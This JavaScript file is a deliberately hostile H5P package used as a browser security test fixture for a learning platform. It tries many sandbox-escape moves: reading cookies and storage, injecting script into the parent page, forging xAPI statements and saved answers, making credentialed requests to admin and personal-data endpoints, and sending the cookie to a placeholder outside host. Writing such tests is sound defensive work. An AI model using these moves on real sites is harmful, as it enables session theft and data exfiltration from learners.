// A hostile H5P library for tests/browser/test_h5p_hostile.py. It rides along with an honest
// activity and tries every move package code has been seen to make against the learner; it writes
// what it got into its own page (<pre id="sangkat-hostile-report">) for the test to read.
// "got" is what the move obtained: anything but null means the move worked.
(function () {
  "use strict";
  var OUTSIDE = "__OUTSIDE__";
  var INJECT = "/h5p/files/libraries/Sangkat.Hostile-1.0/inject.js";
  var framed = window.parent !== window;
  var report = {};

  function tryMove(name, move) {
    try {
      var got = move();
      report[name] = { got: got === undefined || got === null || got === "" || got === false ? null : String(got) };
    } catch (e) {
      report[name] = { got: null, error: e.name };
    }
  }

  function tryRequest(name, url, options) {
    return fetch(url, options).then(function (response) {
      if (response.type === "opaque") return { got: null, error: "opaque response" };
      return response.text().then(function (text) {
        return { got: response.ok ? text.slice(0, 500) || "(empty body)" : null, status: response.status };
      });
    }, function (e) {
      return { got: null, error: e.name };
    }).then(function (result) { report[name] = result; });
  }

  tryMove("cookie", function () { return document.cookie; });
  tryMove("csrf_in_player_page", function () {
    var html = document.documentElement.outerHTML;
    return /csrf/i.test(html) ? html.match(/.{0,40}csrf.{0,80}/i)[0] : null;
  });
  tryMove("site_storage", function () {
    var keys = [];
    for (var i = 0; i < window.localStorage.length; i++) keys.push(window.localStorage.key(i));
    return keys.join(",");
  });
  tryMove("parent_dom", function () { return framed ? window.parent.document.body.innerHTML.length : null; });
  tryMove("parent_cookie", function () { return framed ? window.parent.document.cookie : null; });
  tryMove("top_dom", function () { return framed ? window.top.document.title : null; });
  tryMove("parent_script", function () {
    if (!framed) return null;
    window.parent.eval("window.sangkatScriptedByPackage = true");
    return window.parent.sangkatScriptedByPackage;
  });
  tryMove("inject_script_into_parent", function () {
    if (!framed) return null;
    var script = window.parent.document.createElement("script");
    script.src = INJECT;
    window.parent.document.head.appendChild(script);
    return "appended";
  });
  tryMove("popup", function () { return window.open(OUTSIDE + "/popup") ? "opened" : null; });
  tryMove("beacon_outside", function () {
    new Image().src = OUTSIDE + "/image?from=package";
    return null; // the outside listener tells
  });
  // A statement about someone else's activity, in someone else's name: the lesson must not relay it
  // as written.
  tryMove("forged_statement", function () {
    if (!framed) return null;
    window.parent.postMessage({
      type: "sangkat-h5p-statement", block: "__BLOCK__",
      statement: {
        actor: { objectType: "Agent", account: { homePage: "__HOME__", name: "1" } },
        verb: { id: "http://adlnet.gov/expapi/verbs/experienced" },
        object: { id: "__HOME__/xapi/activities/lessons/00000000-0000-4000-8000-000000000000/h5p/other" },
        context: { instructor: { objectType: "Agent", account: { homePage: "__HOME__", name: "1" } } }
      }
    }, "*");
    return null;
  });

  // Saved answers the lesson must drop: a part id that is a path, a kind named like a prototype,
  // more than 64 KB, not text, and answers for another block of the lesson.
  tryMove("forged_saved_answers", function () {
    if (!framed) return null;
    [
      { subContentId: "../other", dataType: "state", data: "{}" },
      { subContentId: "0", dataType: "__proto__", data: "{}" },
      { subContentId: "0", dataType: "hostile", data: "[" + new Array(70000).join("1,") + "1]" },
      { subContentId: "0", dataType: "hostile", data: { not: "text" } },
      { subContentId: "0", dataType: "hostile", data: "{}", block: "another-block" }
    ].forEach(function (message) {
      message.type = "sangkat-h5p-user-data";
      message.block = message.block || "__BLOCK__";
      window.parent.postMessage(message, "*");
    });
    return null;
  });
  var savedAnswers = window.location.pathname.replace("/h5p/play/", "/h5p/user-data/");

  var requests = [
    tryRequest("read_saved_answers", savedAnswers, { credentials: "include" }),
    tryRequest("save_answers_blind", savedAnswers, {
      method: "POST", mode: "no-cors", credentials: "include", headers: { "Content-Type": "text/plain" },
      body: JSON.stringify({ subContentId: "0", dataType: "blind", data: "{}" })
    }),
    tryRequest("read_personal_data", "/account/data/download/", { credentials: "include" }),
    tryRequest("read_statements", "/xapi/statements", {
      credentials: "include", headers: { "X-Experience-API-Version": "1.0.3" }
    }),
    tryRequest("read_admin_users", "/admin/users/", { credentials: "include" }),
    tryRequest("read_admin", "/admin/", { credentials: "include" }),
    tryRequest("read_player_page", window.location.href, { credentials: "include" }),
    tryRequest("post_statement_blind", "/xapi/statements", {
      method: "POST", mode: "no-cors", credentials: "include", headers: { "Content-Type": "text/plain" },
      body: JSON.stringify({ verb: { id: "https://sangkat.test/verbs/hostile" }, object: { id: "https://sangkat.test/x" } })
    }),
    tryRequest("fetch_outside", OUTSIDE + "/fetch?from=package", {})
  ];

  // A worker of the package's own (on its own origin, H5P_PACKAGE_ORIGIN): package files are never
  // served as one. In the opaque sandbox there is no service worker to ask for at all.
  requests.push(new Promise(function (resolve) {
    try {
      navigator.serviceWorker.register(INJECT.replace("inject.js", "worker.js"), { scope: "/h5p/files/libraries/Sangkat.Hostile-1.0/" })
        .then(function (registration) { resolve({ got: "registered " + registration.scope }); },
              function (e) { resolve({ got: null, error: e.name }); });
    } catch (e) {
      resolve({ got: null, error: e.name });
    }
  }).then(function (result) { report.register_worker = result; }));

  Promise.all(requests).then(function () {
    if (framed) {
      tryMove("navigate_top", function () {
        window.top.location.href = OUTSIDE + "/navigated?c=" + encodeURIComponent(String(report.cookie.got));
        return null; // the test checks where the lesson page is and what the listener heard
      });
    }
    var pre = document.createElement("pre");
    pre.id = "sangkat-hostile-report";
    pre.hidden = true;
    pre.textContent = JSON.stringify(report);
    document.body.appendChild(pre);
  });
})();
